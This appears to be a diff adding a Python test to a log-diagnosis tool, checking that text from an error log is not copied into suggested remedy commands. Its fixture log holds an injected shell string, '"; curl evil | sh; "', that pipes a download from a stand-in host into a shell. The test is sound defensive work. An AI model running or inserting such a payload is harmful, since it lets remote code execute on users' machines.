@@ -46,3 +46,10 @@ def test_without_a_word_of_it_there_is_silence() -> None:
     exits, logs = ended_with("KeyError: 'DATABASE_URL'")
     assert list(import_error.see(exits, logs)) == []
     assert list(import_error.see(exits, NO_LOGS)) == []
+
+
+def test_no_text_of_a_log_gets_into_a_command() -> None:
+    """What is no plain name is named, and not put where people copy from."""
+    seen = only(import_error.see(*ended_with("Error: Cannot find module '\"; curl evil | sh; \"'")))
+    assert "curl evil" in seen.summary
+    assert not any("docker run" in step.says for step in only(seen.remedies).steps)
